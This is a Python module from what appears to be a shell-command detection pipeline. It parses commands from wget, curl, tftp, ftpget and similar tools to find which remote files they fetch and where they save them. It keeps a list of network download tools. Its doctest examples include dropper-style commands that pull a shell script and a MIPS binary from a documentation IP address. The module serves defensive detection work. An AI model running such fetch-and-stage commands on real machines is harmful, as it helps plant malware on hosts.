"""What a command line brings in from other machines: by which tool, from where, under which name it is kept."""

from __future__ import annotations

from functools import lru_cache
from typing import Final, NamedTuple

from pipeline.shell.calls import Call
from pipeline.shell.options import Options, names, parse
from pipeline.shell.places import Url, bare_address, base, url

__all__ = ["FETCHERS", "Fetch", "fetch"]

FETCHERS: Final = frozenset(
    {"wget", "curl", "fetch", "aria2c", "axel", "lwp-download", "tftp", "ftpget", "GET", "wget2"}
)

_WGET_LONG: Final = frozenset(
    {"output-document", "directory-prefix", "user-agent", "timeout", "tries", "user", "password", "header", "post-data"}
)
_CURL_LONG: Final = names(
    "output url header data request user user-agent max-time connect-timeout proxy retry form cookie cookie-jar "
    "upload-file unix-socket resolve data-binary data-raw data-urlencode write-out interface retry-delay cacert "
    "referer cert key"
)


class Fetch(NamedTuple):
    """One file brought in."""

    tool: str
    source: Url
    kept: str
    """The path it is kept under, '' where it goes to standard output."""


@lru_cache(8)
def fetch(call: Call) -> tuple[Fetch, ...]:
    """What `call` fetches; the last few are remembered, since each detector asks in turn.

    Example:
        >>> fetch(Call("wget", ("wget", "-q", "http://203.0.113.5/b/x.sh", "-O", "/tmp/x")))
        (Fetch(tool='wget', source=Url(scheme='http', host='203.0.113.5', port=0, path='/b/x.sh'), kept='/tmp/x'),)
        >>> [f.kept for f in fetch(Call("tftp", ("tftp", "-g", "-r", "a.mips", "203.0.113.5")))]
        ['a.mips']
    """
    argv = call.argv[1:]
    if call.name in ("wget", "wget2", "fetch", "axel", "aria2c", "lwp-download", "GET"):
        options = parse(argv, "OPoUTtQiaBD", _WGET_LONG)
        kept = options.first("O", "output-document") if call.name != "fetch" else options.first("o")
        folder = options.first("P", "directory-prefix")
        return _from_urls(call, options, kept, folder, call.name != "GET")
    if call.name == "curl":
        options = parse(argv, "oXHdFuAemxbcTrwKEhCyYzt", _CURL_LONG)
        if options.has("T", "upload-file"):
            return ()
        saved = options.has("O", "remote-name") or options.has("J")
        options.operands.extend(options.all("url"))
        return _from_urls(call, options, options.first("o", "output"), "", saved)
    if call.name == "ftpget":
        options = parse(argv, "upP")
        if len(options.operands) < 2:
            return ()
        return (Fetch("ftpget", Url("ftp", options.operands[0], 0, "/" + options.operands[-1]), options.operands[1]),)
    return _tftp(argv) if call.name == "tftp" else ()


def _from_urls(call: Call, options: Options, kept: str, folder: str, saves: bool) -> tuple[Fetch, ...]:
    found: list[Fetch] = []
    for operand in options.operands:
        source = url(operand)
        if source is None:
            continue
        name = kept or (base(source.path) or "index.html" if saves else "")
        if name in ("-", "", "/dev/stdout"):
            name = next((r.target for r in call.redirects if r.op in (">", ">>", ">|") and r.fd in (None, 1)), "")
        elif name and folder and not kept:
            name = f"{folder.rstrip('/')}/{name}"
        found.append(Fetch(call.name, source, "" if name == "/dev/null" else name))
    return tuple(found)


def _tftp(argv: tuple[str, ...]) -> tuple[Fetch, ...]:
    words = list(argv)
    hosts = [word for word in words if bare_address(word) or ("." in word and not word.startswith(("-", "/")))]
    host = next((word for word in hosts if bare_address(word)), hosts[0] if hosts else "")
    if not host:
        return ()
    name = ""
    for mark in ("-r", "get", "-l"):
        if mark in words[:-1]:
            name = words[words.index(mark) + 1]
            break
    if not name and "-c" not in words and "-g" not in words:
        return ()
    return (Fetch("tftp", Url("tftp", host, 0, "/" + name), name),)
